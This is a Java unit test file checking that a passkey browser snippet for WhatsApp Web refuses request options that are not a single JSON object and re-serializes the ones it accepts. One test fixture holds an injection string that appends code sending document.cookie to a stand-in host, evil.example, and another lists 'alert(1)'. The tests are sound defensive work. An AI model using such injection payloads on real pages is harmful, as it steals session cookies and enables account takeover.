package io.kubezap.contract;

import org.junit.jupiter.api.Test;

import java.time.Instant;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Issue 79 S8: the snippet the account's owner runs in a tab on web.whatsapp.com carries WhatsApp's request options as
 * one JSON object written out again, never as the text came: options with code after the object are refused.
 */
class PasskeyBrowserSnippetTest {

    private static final Instant EXPIRES = Instant.parse("2026-11-28T10:00:00Z");

    @Test
    void optionsWithCodeAfterTheObjectGiveNoSnippet() {
        var hostile = new PasskeyChallenge("abc", "whatsapp.com",
                "{\"challenge\":\"abc\"}); fetch('https://evil.example/?' + document.cookie); ({", EXPIRES);

        assertThatThrownBy(() -> PasskeyBrowserSnippet.forChallenge(hostile)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("not one JSON object");
    }

    @Test
    void optionsThatAreNotAnObjectGiveNoSnippet() {
        for (var options : new String[]{"[1]", "\"x\"", "null", "", "alert(1)"}) {
            assertThatThrownBy(() -> PasskeyBrowserSnippet.forChallenge(new PasskeyChallenge("abc", "whatsapp.com", options, EXPIRES)))
                    .as(options).isInstanceOf(IllegalArgumentException.class);
        }
    }

    @Test
    void theOptionsGoInAsWrittenOutAgain() {
        var snippet = PasskeyBrowserSnippet.forChallenge(new PasskeyChallenge("abc", "whatsapp.com",
                "{ \"challenge\" : \"abc\",\n  \"rpId\": \"whatsapp.com\", \"note\": \"</script>\\u2028\" }", EXPIRES));

        assertThat(snippet).contains("parseRequestOptionsFromJSON({\"challenge\":\"abc\",\"rpId\":\"whatsapp.com\",\"note\":\"</script>\u2028\"});");
    }
}
